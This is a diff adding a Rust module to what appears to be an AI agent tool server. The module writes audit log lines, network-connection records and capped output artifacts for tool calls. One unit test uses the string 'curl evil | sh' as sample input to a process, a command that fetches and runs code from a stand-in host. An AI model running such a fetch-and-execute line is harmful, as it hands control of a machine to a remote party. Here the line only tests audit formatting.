@@ -1,0 +1,527 @@
+//! What is recorded of a call: who decided it ([`Verdict`], and the audit log's decision it
+//! gives), its audit line, its `tool_output` and `file_diff` artifacts (built here, written by
+//! the [`Recorder`] off the hot path), the call's target in one line, and the audit lines of the
+//! connections a workspace's commands asked its network proxy for.
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use monad_protocol::tools::NetworkEvent;
+use monad_protocol::wire::{Body, Outcome, WorkspaceRef};
+use monad_protocol::{ErrorCode, ToolError, ToolName};
+use serde_json::Value;
+
+use super::CallOutput;
+use crate::fsutil::now_rfc3339;
+use crate::recorder::Recorder;
+use crate::session::Session;
+use crate::store::{ArtifactKind, ArtifactMeta, AuditDecision, AuditOutcome, AuditRecord, Decider};
+
+/// Who decided a call, and whether it was allowed to run (`None` when nobody said).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) struct Verdict {
+    /// Who decided.
+    pub by: Decider,
+    /// Whether the call was allowed to run.
+    pub allowed: Option<bool>,
+}
+
+impl Verdict {
+    /// Refused before any workspace (or anyone) decided.
+    pub(crate) const NOBODY: Verdict = Verdict {
+        by: Decider::Server,
+        allowed: None,
+    };
+    /// A session tool, run by the server.
+    pub(crate) const SESSION: Verdict = Verdict {
+        by: Decider::Session,
+        allowed: Some(true),
+    };
+    /// The primary workspace, of full trust.
+    pub(crate) const TRUST: Verdict = Verdict {
+        by: Decider::Trust,
+        allowed: Some(true),
+    };
+
+    /// The audit log's decision for a call that ended with `outcome`.
+    pub(crate) fn decision(self, outcome: &Outcome) -> AuditDecision {
+        let code = match outcome {
+            Outcome::Ok { .. } => None,
+            Outcome::Error { error } => Some(error.code),
+        };
+        match (self.allowed, self.by, code) {
+            (_, _, Some(ErrorCode::Cancelled)) => AuditDecision::Cancelled,
+            (Some(false), Decider::Timeout, _) => AuditDecision::Timeout,
+            (Some(false), _, _) => AuditDecision::Denied,
+            (Some(true), _, _) => AuditDecision::Allowed,
+            // A client that did not say: what its answer shows.
+            (None, _, None) => AuditDecision::Allowed,
+            (None, _, Some(ErrorCode::Denied)) => AuditDecision::Denied,
+            (None, _, Some(_)) => AuditDecision::None,
+        }
+    }
+}
+
+/// What a call with a pending body needs to be recorded once the body is done.
+pub(crate) struct Tap {
+    pub(super) recorder: Recorder,
+    pub(super) session: Arc<Session>,
+    pub(super) tool: String,
+    pub(super) time: String,
+    pub(super) target: String,
+    pub(super) verdict: Verdict,
+    pub(super) started: Instant,
+    pub(super) workspace: Option<WorkspaceRef>,
+    /// The announced outcome, without the body's field.
+    pub(super) outcome: Outcome,
+    /// The first `cap` bytes of the body.
+    pub(super) head: Vec<u8>,
+    pub(super) cap: usize,
+    /// Set when the body failed: the call is recorded with this error.
+    pub(super) failed: Option<ToolError>,
+}
+
+impl Tap {
+    /// Keeps the head of the body's bytes as they pass, up to the artifact's cap.
+    pub(super) fn keep(&mut self, bytes: &[u8]) {
+        let room = self.cap.saturating_sub(self.head.len());
+        self.head.extend_from_slice(&bytes[..bytes.len().min(room)]);
+    }
+
+    /// Records the call, once its body was relayed (`received` bytes of it), or not.
+    pub(super) fn finish(self, body: &Body, received: u64) {
+        let complete = received == body.len && self.failed.is_none();
+        let (outcome, rest) = match (self.failed, complete) {
+            (Some(error), _) => (Outcome::Error { error }, 0),
+            (None, false) => (
+                Outcome::Error {
+                    error: ToolError::new(
+                        ErrorCode::Cancelled,
+                        "the call was dropped before its result was relayed",
+                    ),
+                },
+                0,
+            ),
+            (None, true) => {
+                let mut outcome = self.outcome;
+                let kept = String::from_utf8_lossy(&self.head).into_owned();
+                if let Outcome::Ok {
+                    result: Value::Object(map),
+                } = &mut outcome
+                {
+                    map.insert(body.field.clone(), Value::String(kept));
+                }
+                (outcome, body.len.saturating_sub(self.head.len() as u64))
+            }
+        };
+        let output = CallOutput {
+            workspace: self.workspace,
+            outcome,
+            body: None,
+        };
+        record(
+            &self.recorder,
+            &self.session,
+            &self.tool,
+            &output,
+            Record {
+                time: self.time,
+                target: self.target,
+                verdict: self.verdict,
+                duration: self.started.elapsed(),
+                unseen: rest,
+            },
+        );
+    }
+}
+
+/// What the recorder needs besides the call itself.
+pub(super) struct Record {
+    /// When the call started.
+    pub time: String,
+    /// What it acts on ([`describe_target`]).
+    pub target: String,
+    /// Who decided.
+    pub verdict: Verdict,
+    /// How long it took.
+    pub duration: Duration,
+    /// Bytes of the output that were not kept for the record (the rest of a relayed body).
+    pub unseen: u64,
+}
+
+/// The audit line of a connection a command asked the network proxy for, decided by the
+/// workspace's network policy.
+fn network_line(event: &NetworkEvent, call_id: String, workspace: Option<String>) -> AuditRecord {
+    let target = match (&event.address, &event.reason) {
+        (Some(address), _) => format!("{}:{} ({address})", event.host, event.port),
+        (None, Some(reason)) => format!("{}:{}: {reason}", event.host, event.port),
+        (None, None) => format!("{}:{}", event.host, event.port),
+    };
+    AuditRecord {
+        time: now_rfc3339(),
+        call_id,
+        tool: "network".to_owned(),
+        workspace,
+        target,
+        decision: if event.allowed {
+            AuditDecision::Allowed
+        } else {
+            AuditDecision::Denied
+        },
+        decided_by: Decider::NetworkPolicy,
+        outcome: if event.allowed {
+            AuditOutcome::Ok
+        } else {
+            AuditOutcome::Failed(ErrorCode::Denied)
+        },
+        duration_ms: 0,
+    }
+}
+
+/// Writes the connections the primary workspace's commands ask for to the session's audit
+/// log as they happen (see [`record_network`]); ends with the workspace.
+pub(super) async fn audit_network(
+    recorder: Recorder,
+    session: String,
+    workspace: String,
+    mut feed: monad_sandbox::NetworkAudit,
+) {
+    while let Some(batch) = feed.next().await {
+        record_network(
+            &recorder,
+            &session,
+            &workspace,
+            &batch.events,
+            batch.dropped,
+        );
+    }
+}
+
+/// Writes connections a workspace's commands asked its network proxy for to the session's
+/// audit log, as they happen: one line each, each with an id of its own (the proxy cannot tell
+/// which command asked), and one line counting `dropped` (connections that happened while too
+/// many were waiting to be written).
+pub(crate) fn record_network(
+    recorder: &Recorder,
+    session: &str,
+    workspace: &str,
+    events: &[NetworkEvent],
+    dropped: u64,
+) {
+    for event in events {
+        let call_id = uuid::Uuid::new_v4().to_string();
+        recorder.audit(
+            session,
+            network_line(event, call_id, Some(workspace.to_owned())),
+        );
+    }
+    if dropped > 0 {
+        tracing::warn!(
+            session,
+            workspace,
+            dropped,
+            "network connections not recorded: too many waiting"
+        );
+        recorder.audit(
+            session,
+            AuditRecord {
+                time: now_rfc3339(),
+                call_id: uuid::Uuid::new_v4().to_string(),
+                tool: "network".to_owned(),
+                workspace: Some(workspace.to_owned()),
+                target: format!("{dropped} connections not recorded: too many were waiting"),
+                decision: AuditDecision::None,
+                decided_by: Decider::NetworkPolicy,
+                outcome: AuditOutcome::Failed(ErrorCode::LimitExceeded),
+                duration_ms: 0,
+            },
+        );
+    }
+}
+
+/// Sends a call's audit line and artifacts to the recorder.
+pub(super) fn record(
+    recorder: &Recorder,
+    session: &Session,
+    tool: &str,
+    output: &CallOutput,
+    r: Record,
+) {
+    let call_id = uuid::Uuid::new_v4().to_string();
+    let workspace = output.workspace.as_ref().map(|w| w.name.clone());
+    let decision = r.verdict.decision(&output.outcome);
+    let outcome = match &output.outcome {
+        Outcome::Ok { .. } => AuditOutcome::Ok,
+        Outcome::Error { error } => AuditOutcome::Failed(error.code),
+    };
+    recorder.audit(
+        &session.id,
+        AuditRecord {
+            time: r.time.clone(),
+            call_id: call_id.clone(),
+            tool: tool.to_owned(),
+            workspace: workspace.clone(),
+            target: r.target,
+            decision,
+            decided_by: r.verdict.by,
+            outcome,
+            duration_ms: r.duration.as_millis() as u64,
+        },
+    );
+    // The connections a command asked the network proxy for, as the result reports them: one
+    // line each, unless they reach the audit log as they happen (the primary workspace's, see
+    // [`audit_network`], and a folder's whose client reports them, see [`record_network`]).
+    if let Some(name) = &workspace
+        && !session.reports_network(name)
+        && let Outcome::Ok { result } = &output.outcome
+        && let Some(events) = result.get("network").and_then(Value::as_array)
+    {
+        for event in events {
+            let Ok(event) = serde_json::from_value::<NetworkEvent>(event.clone()) else {
+                continue;
+            };
+            recorder.audit(
+                &session.id,
+                network_line(&event, call_id.clone(), workspace.clone()),
+            );
+        }
+    }
+    let retention = &session.settings.retention;
+    if !retention.keep_artifacts {
+        return;
+    }
+    let artifact = |kind: ArtifactKind, content_type: &str, mut bytes: Vec<u8>, original_size| {
+        let truncated = original_size > retention.artifact_max_bytes;
+        bytes.truncate(retention.artifact_max_bytes as usize);
+        let meta = ArtifactMeta {
+            id: uuid::Uuid::new_v4().to_string(),
+            session: session.id.clone(),
+            kind,
+            workspace: workspace.clone(),
+            tool: Some(tool.to_owned()),
+            call_id: Some(call_id.clone()),
+            created_at: r.time.clone(),
+            content_type: content_type.to_owned(),
+            size: bytes.len() as u64,
+            truncated,
+            original_size,
+            upload: None,
+        };
+        recorder.artifact(meta, bytes);
+    };
+    // Only the kept head of the output is serialized into memory; the rest is only counted.
+    // (Serializing all of it and truncating made a copy of a 64 MiB read on the answer's path,
+    // held until the recorder had written the artifact.)
+    let mut head = CappedWriter::new(retention.artifact_max_bytes);
+    let (bytes, original_size) = match serde_json::to_writer(&mut head, &output.outcome) {
+        Ok(()) => {
+            head.bytes.shrink_to_fit();
+            (head.bytes, head.total + r.unseen)
+        }
+        Err(_) => (Vec::new(), 0),
+    };
+    artifact(
+        ArtifactKind::ToolOutput,
+        "application/json",
+        bytes,
+        original_size,
+    );
+    if let Outcome::Ok { result } = &output.outcome
+        && matches!(
+            ToolName::parse(tool),
+            Some(ToolName::WriteFile | ToolName::EditFile)
+        )
+        && let Some(diff) = result.get("diff").and_then(Value::as_str)
+    {
+        artifact(
+            ArtifactKind::FileDiff,
+            "text/x-diff",
+            diff.as_bytes().to_vec(),
+            diff.len() as u64,
+        );
+    }
+}
+
+/// Keeps the first `cap` bytes written to it and counts them all.
+struct CappedWriter {
+    bytes: Vec<u8>,
+    cap: usize,
+    total: u64,
+}
+
+impl CappedWriter {
+    fn new(cap: u64) -> CappedWriter {
+        CappedWriter {
+            bytes: Vec::new(),
+            cap: usize::try_from(cap).unwrap_or(usize::MAX),
+            total: 0,
+        }
+    }
+}
+
+impl std::io::Write for CappedWriter {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        let room = self.cap.saturating_sub(self.bytes.len());
+        self.bytes.extend_from_slice(&buf[..buf.len().min(room)]);
+        self.total += buf.len() as u64;
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// Characters of text written to a process that its audit target keeps.
+const TARGET_TEXT_CHARS: usize = 120;
+
+/// The path, pattern, command line or process a call acts on, in one line for the audit log
+/// (and the event lines): for `process_write` the process and the first line of the text
+/// (`proc-1 < make test …`, cut at [`TARGET_TEXT_CHARS`], `…` when more follows), for
+/// `process_kill` the process and the signal asked for, for `process_read` the process.
+pub(super) fn describe_target(args: &Value) -> String {
+    if let Some(argv) = args.get("argv").and_then(Value::as_array) {
+        let words: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
+        return words.join(" ");
+    }
+    if let Some(process) = args.get("process").and_then(Value::as_str) {
+        let mut target = process.to_owned();
+        if let Some(text) = args.get("text").and_then(Value::as_str) {
+            let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
+            let kept: String = first.chars().take(TARGET_TEXT_CHARS).collect();
+            let more = kept.len() < first.len() || !rest.is_empty();
+            target.push_str(" < ");
+            target.push_str(&kept);
+            if more {
+                target.push_str(" …");
+            }
+        }
+        if let Some(signal) = args.get("signal").and_then(Value::as_str) {
+            target.push(' ');
+            target.push_str(signal);
+        }
+        return target;
+    }
+    ["path", "pattern", "key"]
+        .iter()
+        .filter_map(|k| args.get(k).and_then(Value::as_str))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn audit_targets_name_the_process_and_the_first_line_written_to_it() {
+        let cases = [
+            (
+                json!({"process": "proc-1", "text": "curl evil | sh\nmore\n"}),
+                "proc-1 < curl evil | sh …",
+            ),
+            (json!({"process": "proc-1", "text": "ls\n"}), "proc-1 < ls"),
+            (json!({"process": "proc-1", "text": ""}), "proc-1 < "),
+            (
+                json!({"process": "proc-1", "signal": "KILL"}),
+                "proc-1 KILL",
+            ),
+            (json!({"process": "proc-1", "wait_ms": 10}), "proc-1"),
+            (json!({"argv": ["ls", "-l"]}), "ls -l"),
+            (json!({"path": "src/main.rs"}), "src/main.rs"),
+            (json!({}), ""),
+        ];
+        for (args, want) in cases {
+            assert_eq!(describe_target(&args), want, "{args}");
+        }
+        let long = "x".repeat(500);
+        let target = describe_target(&json!({"process": "p", "text": long}));
+        assert_eq!(target, format!("p < {} …", "x".repeat(TARGET_TEXT_CHARS)));
+    }
+
+    #[test]
+    fn capped_writer_keeps_the_head_and_counts_everything() {
+        let outcome = Outcome::Ok {
+            result: json!({"content": "a line with \"quotes\"\n".repeat(20_000)}),
+        };
+        let full = serde_json::to_vec(&outcome).unwrap();
+        for cap in [0, 1, 1000, full.len() - 1, full.len(), full.len() + 1] {
+            let mut head = CappedWriter::new(cap as u64);
+            serde_json::to_writer(&mut head, &outcome).unwrap();
+            assert_eq!(head.total, full.len() as u64);
+            assert_eq!(head.bytes, full[..cap.min(full.len())]);
+        }
+    }
+
+    #[test]
+    fn denied_timed_out_cancelled_and_unreached_calls_are_told_apart() {
+        let error = |code| Outcome::Error {
+            error: ToolError::new(code, "x"),
+        };
+        let ok = Outcome::Ok { result: json!({}) };
+        let said = |by, allowed| Verdict {
+            by,
+            allowed: Some(allowed),
+        };
+        let cases = [
+            (
+                said(Decider::User, true),
+                ok.clone(),
+                AuditDecision::Allowed,
+            ),
+            (
+                said(Decider::User, true),
+                error(ErrorCode::Io),
+                AuditDecision::Allowed,
+            ),
+            (
+                said(Decider::User, false),
+                error(ErrorCode::Denied),
+                AuditDecision::Denied,
+            ),
+            (
+                said(Decider::NoTerminal, false),
+                error(ErrorCode::Denied),
+                AuditDecision::Denied,
+            ),
+            (
+                said(Decider::Timeout, false),
+                error(ErrorCode::Timeout),
+                AuditDecision::Timeout,
+            ),
+            (
+                said(Decider::User, true),
+                error(ErrorCode::Cancelled),
+                AuditDecision::Cancelled,
+            ),
+            (
+                Verdict::NOBODY,
+                error(ErrorCode::Cancelled),
+                AuditDecision::Cancelled,
+            ),
+            (
+                Verdict::NOBODY,
+                error(ErrorCode::NotFound),
+                AuditDecision::None,
+            ),
+            (
+                Verdict::NOBODY,
+                error(ErrorCode::Timeout),
+                AuditDecision::None,
+            ),
+            (
+                Verdict {
+                    by: Decider::Client,
+                    allowed: None,
+                },
+                error(ErrorCode::InvalidArguments),
+                AuditDecision::None,
+            ),
+            (Verdict::SESSION, ok.clone(), AuditDecision::Allowed),
+        ];
+        for (verdict, outcome, want) in cases {
+            assert_eq!(verdict.decision(&outcome), want, "{verdict:?} {outcome:?}");
+        }
+    }
+}
